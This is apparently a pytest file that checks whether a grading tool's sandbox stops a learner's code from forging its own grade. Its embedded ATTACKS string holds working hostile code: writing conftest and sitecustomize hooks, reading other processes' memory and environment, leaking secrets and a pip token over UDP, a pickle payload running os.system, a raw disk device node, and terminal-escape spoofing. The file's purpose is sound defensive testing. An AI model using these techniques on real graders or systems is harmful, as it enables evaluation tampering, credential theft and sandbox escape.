"""A learner's file cannot change its own grade: the six ways found to forge a pass
(issue 19) are planted in one wrong L1 kernel, graded by grader.py in a throwaway copy
of the checkout with a throwaway venv, and each must fail to move the grade or to
change anything under the project or the venv. Also the worker's confinement, directly.
"""
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

import pytest

import _env
import _sandbox
import _wrong
from _data import NotData, loads
from _manifest import drill as find_drill
from _process import run_process
from _tree import ROOT

pytestmark = [pytest.mark.meta, pytest.mark.skipif(not _sandbox.abi(), reason="no Landlock on this kernel")]

L1 = find_drill("l1")
SECRETS = ("drills-env-secret-5f1c", "drills-file-secret-9a7e",  # what attack 8 looks for
           "drills-pip-token-3c6d")                                 # attack 22: an index token in the venv's pip.conf
MARKER = f"drills-attack-{os.getpid()}"  # attack 20's /dev/shm name, 23's host socket

# Each attack runs when the learner's module is imported in the worker, and prints what
# stopped it, so the grade's "your code printed" shows the sandbox at work. __MARKERS__
# is a folder outside the project where a successful attack leaves its proof.
ATTACKS = r'''
import glob, os, signal, site, subprocess, sys, time

def _attempt(name, action):
    try:
        action()
        print(f"attack {name}: done")
    except Exception as error:
        print(f"attack {name}: stopped ({type(error).__name__}: {error})")

def _pids(word):
    found = []
    for stat in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if word in open(stat, "rb").read().decode(errors="replace"):
                found.append(int(stat.split("/")[2]))
        except OSError:
            pass
    return [p for p in found if p != os.getpid()]

ROOT = __ROOT__

def conftest_then_kill():  # 1: a conftest.py the resumed test process would load, then kill it
    open(os.path.join(ROOT, "conftest.py"), "w").write("import os; os.environ['FORGED'] = '1'\n")
    for pid in _pids("pytest"):
        os.kill(pid, signal.SIGKILL)

def stale_pyc():  # 2: a compiled module in tests/__pycache__ stamped to look current
    folder = os.path.join(ROOT, "tests", "__pycache__")
    os.makedirs(folder, exist_ok=True)
    open(os.path.join(folder, "_diagnose.cpython-311.pyc"), "wb").write(b"forged")

def sitecustomize():  # 3: a sitecustomize.py in the venv that sets PYTEST_PLUGINS
    target = site.getsitepackages()[0]
    open(os.path.join(target, "sitecustomize.py"), "w").write("import os; os.environ['PYTEST_PLUGINS'] = 'x'\n")

def read_the_key():  # 5: the test process's memory (its signing key), then signed lines appended
    if not _pids("--drills-report"):
        raise LookupError("no test process to read")
    for pid in _pids("--drills-report"):
        open(f"/proc/{pid}/mem", "rb").read(1)
    for pid in _pids("--drills-report"):
        args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
        open(args[args.index("--drills-report") + 1], "a").write('{"outcome": "passed"}\tforged\n')

def detached_rewriter():  # 6: outlive the grader, then rewrite its --json file
    code = ("import time, glob, json\n"
            "time.sleep(4)\n"
            "for path in glob.glob(__MARKERS__ + '/*.json'):\n"
            "    open(path, 'w').write(json.dumps(dict(forged=True)))\n")
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

def read_solutions():  # 7: the reference next door, and by import
    open(os.path.join(ROOT, "solutions", "l1_paged_kv_write.py")).read()

def secrets_out():  # 8: a secret variable and a file outside the sandbox, printed and sent over UDP
    import socket
    found = os.environ.get("DRILLS_ATTACK_SECRET", "")
    try:
        found += open(__SECRET_FILE__).read()
    except OSError as error:
        print(f"attack 8 file: stopped ({type(error).__name__})")
    print("leak:", found)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(found.encode() or b"nothing", ("127.0.0.1", __UDP_PORT__))

def unix_socket():  # 9: a pathname Unix socket of the instructor's (an ssh-agent, a docker socket)
    import socket
    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(__UNIX_SOCKET__)

def limits_on_others():  # 10: the test process's limits and priority, so its big test skips itself
    import resource
    if not _pids("pytest"):
        raise LookupError("no test process is visible")
    for pid in _pids("pytest"):
        resource.prlimit(pid, resource.RLIMIT_AS, (1 << 30, 1 << 30))
    for pid in _pids("pytest"):
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setaffinity(pid, {0})

def environ_of_others():  # 11: another process's environment (the grader's secrets)
    if not _pids("grader.py"):
        raise LookupError("no grader process is visible")
    for pid in _pids("grader.py"):
        open(f"/proc/{pid}/environ", "rb").read()

def daemon_holding_pipes():  # 12: a process that outlives its worker, holding whatever it inherited
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)

def device_node():  # 17: a block device of the disk in the scratch folder, opened raw past every rule
    import stat
    disk = os.stat("/").st_dev
    os.mknod(os.path.join(os.getcwd(), "disk"), 0o600 | stat.S_IFBLK, disk)
    open(os.path.join(os.getcwd(), "disk"), "rb").read(512)

def immutable_file():  # 18: chattr +i on a scratch file, so that the scratch folder outlives the grade
    import fcntl, struct
    open("locked", "w").close()
    fd = os.open("locked", os.O_RDONLY)
    fcntl.ioctl(fd, 0x40086602, struct.pack("l", 0x10))  # FS_IOC_SETFLAGS, FS_IMMUTABLE_FL

def realtime():  # 19: SCHED_FIFO 99, to starve the grader on few cores
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))

def shm_left():  # 20: a /dev/shm name that outlives the grade: memory never given back, a mailbox
    open("/dev/shm/" + __MARKER__, "w").write("for the next learner")

def fifos():  # 21: FIFOs where the test process once read a call's output by name, and in TMPDIR
    for name in ("call-stdout", "call-stderr", "waiting"):
        if not os.path.exists(name):
            os.mkfifo(name)

def pip_conf():  # 22: the venv's configuration (an index token), printed
    print("pip.conf:", open(os.path.join(sys.prefix, "pip.conf")).read())

def host_sockets():  # 23: the host's sockets, from /proc/self/net
    found = [line for line in open("/proc/self/net/unix") if __MARKER__ in line]
    print("host sockets:", found)
    if not found:
        raise LookupError("no socket of the host's is listed")

print(f"running as uid={os.getuid()}")  # 24: root, where the grade is

print("\x1b[2J\x1b[H\x1b[1;32mdrills  passed 35/35\x1b[0m\x1b]0;title\x07\x9b31m")  # 13: repaint the screen

for _name, _action in (("1 conftest", conftest_then_kill), ("2 pyc", stale_pyc), ("3 sitecustomize", sitecustomize),
                       ("5 key", read_the_key), ("6 detached", detached_rewriter), ("7 solutions", read_solutions),
                       ("8 secrets", secrets_out), ("9 unix socket", unix_socket), ("10 limits", limits_on_others),
                       ("11 environ", environ_of_others), ("12 daemon", daemon_holding_pipes),
                       ("17 device node", device_node), ("18 immutable", immutable_file), ("19 realtime", realtime),
                       ("20 shm", shm_left), ("21 fifos", fifos), ("22 pip.conf", pip_conf),
                       ("23 host sockets", host_sockets)):
    _attempt(_name, _action)

try:  # 14: the counters live here: send no traffic counts, so the read-counting test has nothing to count
    sys.modules["_counting"].measure_here = lambda fn, tensors, *a, **k: (fn(*a, **k), None)
except KeyError:
    pass


class _Payload:  # 4: a reply whose unpickling runs code in the test process
    def __reduce__(self):
        return (os.system, ("touch " + __MARKERS__ + "/unpickled",))


_real_reshape_and_cache = reshape_and_cache


def reshape_and_cache(key, value, k_cache, v_cache, slot_mapping):
    _real_reshape_and_cache(key, value, k_cache, v_cache, slot_mapping)
    slot_mapping.fill_(-1)  # 15: change an input after the write, so that "write nothing" would be expected
    raise RuntimeError("\x1b[1;32mall good\x1b[0m")  # 16: escapes in an error message too


def slot_mapping(*args, **kwargs):
    return _Payload()
'''


def _snapshot(folder, skip=(".hypothesis", ".git", ".drills")):  # .drills: the grader's own cache
    """{relative path: sha1} of every file under folder (bytecode caches included)."""
    found = {}
    for path in sorted(Path(folder).rglob("*")):
        rel = path.relative_to(folder)
        if path.is_file() and not (set(rel.parts) & set(skip)):
            found[str(rel)] = hashlib.sha1(path.read_bytes()).hexdigest()
    return found


@pytest.fixture(scope="module")
def forged(tmp_path_factory):
    """The grade of the attacking tree, in throwaway copies; and what changed."""
    tmp = tmp_path_factory.mktemp("forge")
    repo, venv, markers = tmp / "repo", tmp / "venv", tmp / "markers"
    markers.mkdir()
    shutil.copytree(ROOT, repo, ignore=shutil.ignore_patterns(".venv", ".git", "__pycache__", ".hypothesis",
                                                               ".drills", ".pytest_cache"))
    # A venv of its own that sees the real one's packages through a .pth file: the attack
    # on "the venv" aims at this one's site-packages.
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site_packages = Path(sysconfig.get_path("purelib", vars={"base": str(venv), "platbase": str(venv)}))
    (site_packages / "drills-real-venv.pth").write_text(sysconfig.get_path("purelib") + "\n")
    # What a real venv may hold beside it (never the real venv's: this one is thrown away).
    (venv / "pip.conf").write_text(f"[global]\nindex-url = https://user:{SECRETS[2]}@pypi.example/simple\n")
    learner = tmp / "learner"
    _wrong.plant(L1, "padding_written", learner)  # a wrong kernel: it must not pass
    module = learner / f"{L1.stem}.py"
    # What a real laptop holds: a secret in the environment and in a file, and a Unix socket
    # (an ssh-agent); and a UDP listener of ours that a leak would reach.
    secret_file = tmp / "id_secret"
    secret_file.write_text(SECRETS[1])
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    agent = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    agent.bind(str(tmp / "agent.sock"))
    agent.listen(4)
    agent.setblocking(False)
    attacks = ATTACKS
    for name, value in (("__ROOT__", str(repo)), ("__MARKERS__", str(markers)), ("__SECRET_FILE__", str(secret_file)),
                        ("__UNIX_SOCKET__", str(tmp / "agent.sock")), ("__MARKER__", MARKER)):
        attacks = attacks.replace(name, repr(value))
    module.write_text(module.read_text() + attacks.replace("__UDP_PORT__", str(udp.getsockname()[1])))
    before = _snapshot(repo), _snapshot(venv)
    out_json = markers / "grade.json"
    # The grade's temporary files go to a folder of this test's: what is left there after it is a leftover.
    grade_tmp = tmp / "grade-tmp"
    grade_tmp.mkdir()
    env = {"PYTHONDONTWRITEBYTECODE": "1", "COLUMNS": "200",  # no bytecode of ours: any .pyc is the attack's
           "DRILLS_ATTACK_SECRET": SECRETS[0], "TMPDIR": str(grade_tmp)}
    host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)  # attack 23 looks for it
    host.bind("\0" + MARKER)
    host.listen(1)
    started = time.monotonic()
    try:
        code, out, err = run_process([str(venv / "bin" / "python"), str(repo / "grader.py"), "l1", "--tree",
                                      str(learner), "--json", str(out_json)], 600, env)
    finally:
        host.close()
    seconds = time.monotonic() - started
    left_in_tmp = sorted(os.listdir(grade_tmp))
    shm_left = os.path.exists(f"/dev/shm/{MARKER}")
    first = out_json.read_text()
    time.sleep(6)  # the detached rewriter's moment has passed
    received = []
    try:
        while True:
            received.append(udp.recv(65536))
    except BlockingIOError:
        pass
    try:
        agent.accept()
        reached_agent = True
    except BlockingIOError:
        reached_agent = False
    return dict(code=code, out=out, err=err, grade=json.loads(first), json_text=first, seconds=seconds,
                json_after=json.loads(out_json.read_text()), udp=b"".join(received), reached_agent=reached_agent,
                before=before, after=(_snapshot(repo), _snapshot(venv)), markers=markers, left_in_tmp=left_in_tmp,
                shm_left=shm_left)


def test_the_wrong_kernel_still_fails(forged):
    s = forged["grade"]["drills"][0]
    assert forged["code"] == 1 and s["status"] == "failing", forged["out"][-3000:]
    assert forged["grade"]["sandbox"].startswith("landlock ABI")


def test_nothing_under_the_project_or_the_venv_changed(forged):
    """Attacks 1 (conftest.py), 2 (.pyc) and 3 (sitecustomize.py) wrote nothing."""
    (repo_before, venv_before), (repo_after, venv_after) = forged["before"], forged["after"]
    assert repo_after == repo_before, sorted(set(repo_after) ^ set(repo_before))
    assert venv_after == venv_before, sorted(set(venv_after) ^ set(venv_before))


def test_the_sandbox_stopped_each_attack_and_the_grade_shows_it(forged):
    printed = forged["out"]
    for attack in ("1 conftest", "2 pyc", "3 sitecustomize", "5 key", "7 solutions", "9 unix socket", "10 limits",
                   "11 environ"):
        assert f"attack {attack}: done" not in printed, attack
    assert not forged["reached_agent"]


def test_no_secret_leaves_the_sandbox(forged):
    """Attack 8: the variable never reached the worker, the file was closed to it, and nothing
    reached a UDP listener on this machine."""
    for secret in SECRETS:
        assert secret not in forged["out"] + forged["err"] and secret not in forged["json_text"], secret
        assert secret.encode() not in forged["udp"], secret


def test_the_terminal_and_the_json_get_text_not_escapes(forged):
    """Attacks 13 and 16: what the learner printed or raised reaches neither as control characters."""
    for text in (forged["out"], forged["json_text"]):
        assert "\x1b" not in text and "\x9b" not in text and "\\u001b" not in text and "\\u009b" not in text


def test_a_detached_process_does_not_hold_the_grade(forged):
    """Attack 12: a process of the learner's that outlives its worker neither holds the grader
    past its limits nor stops it writing --json."""
    assert forged["seconds"] < 300 and forged["grade"]["drills"]


def test_what_root_could_do_is_refused_and_the_worker_is_not_root(forged):
    """Attacks 17-19, 22-24 (issue 47): no device node, no immutable file, no real-time policy;
    the venv's pip.conf and the host's sockets are not read; as root, the worker is not."""
    printed = forged["out"]
    for attack in ("17 device node", "18 immutable", "19 realtime", "22 pip.conf"):
        assert f"attack {attack}: done" not in printed, attack
    # Where the host's sockets stay listed (root kept on a GPU host, no user namespace), the grade says so.
    listed = "/proc/<pid>/net lists the host's sockets" in forged["grade"]["sandbox"]
    assert listed or "attack 23 host sockets: done" not in printed, forged["grade"]["sandbox"]
    if _sandbox.worker_user() is not None:  # root, and not a GPU host (tests/_unroot.py)
        assert "running as uid=0" not in printed and " + not root" in forged["grade"]["sandbox"]


def test_nothing_is_left_behind(forged):
    """Attacks 18, 20, 21 (issue 47): after the grade, nothing of it is left in its temporary
    folder (the drill's scratch root, with its FIFOs and the file made immutable, removed by the
    grader) and the /dev/shm name the worker made is gone; no removal failed."""
    left = [name for name in forged["left_in_tmp"] if name != "drills-big-memory.lock"]  # tests/_paged.py's, kept
    assert left == [] and not forged["shm_left"], (left, forged["shm_left"])
    assert forged["grade"]["drills"][0]["left_behind"] == []


def test_a_skip_the_learners_run_caused_is_no_pass(forged):
    """Attacks 10 and 14: with the counts withheld (and the test process's limits left alone)
    no test of the wrong tree skips beyond those the reference skips here too (measured: on
    the CPU the second-device test; on the H200 also the two value checks a sync would cost)."""
    s = forged["grade"]["drills"][0]
    assert s["skipped"] <= (1 if _env.INTERPRET else 3) and s["status"] == "failing", s


def test_a_reply_that_is_not_data_is_refused_not_run(forged):
    """Attack 4: the payload's code never ran in the test process, and the failure says what came back."""
    assert not (forged["markers"] / "unpickled").exists()
    assert "not data (posix.system)" in forged["out"] or "not data" in json.dumps(forged["grade"])


def test_no_process_of_the_learner_outlives_the_grade(forged):
    """Attack 6: the detached process could not rewrite the instructor's JSON."""
    assert forged["json_after"] == forged["grade"]


def test_a_reply_is_read_as_plain_data_only():
    """tests/_data.py builds tensors itself from a reply's references and refuses every
    global a pickle names: os.system, and torch's own reductions (the old resource-sharer path)."""
    import pickle

    import torch
    from multiprocessing.reduction import ForkingPickler

    import _channel
    out = torch.full((2, 3), float("nan"))
    sharing = _channel.Sharing()
    try:
        sharing.pickle_args((out,), {}, ("out",), ("out",))
        shared = {0: sharing.storages[0].shared}
        reply = ("ok", (torch.arange(6).view(2, 3)[:, 1:], [1, 2.5, None, "s", {"k": b"x"}], shared[0][:4]))
        back = loads(_channel.pickle_reply(reply, shared), sharing.view)
    finally:
        sharing.close()
    assert torch.equal(back[1][0], torch.tensor([[1, 2], [4, 5]])) and back[1][1] == [1, 2.5, None, "s", {"k": b"x"}]
    assert back[1][2].untyped_storage().data_ptr() == out.untyped_storage().data_ptr()  # ours, not the worker's
    for evil in (pickle.dumps(type("P", (), {"__reduce__": lambda self: (os.system, ("true",))})()),
                 bytes(ForkingPickler.dumps(torch.arange(3)))):
        with pytest.raises(NotData):
            loads(evil)


def test_a_confined_process_writes_only_its_scratch(tmp_path):
    scratch, outside = tmp_path / "scratch", tmp_path / "outside"
    scratch.mkdir()
    code = (f"import sys, os; sys.path.insert(0, {str(ROOT / 'tests')!r}); import _sandbox; _sandbox.confine({str(scratch)!r})\n"
            f"open({str(scratch / 'ok')!r}, 'w').write('x')\n"
            f"try:\n    open({str(outside)!r}, 'w')\nexcept PermissionError:\n    print('denied')\n"
            f"try:\n    os.kill(os.getppid(), 0)\nexcept PermissionError:\n    print('no signal')\n")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert result.stdout.splitlines() == ["denied", "no signal"], result.stderr
    assert (scratch / "ok").exists() and not outside.exists()
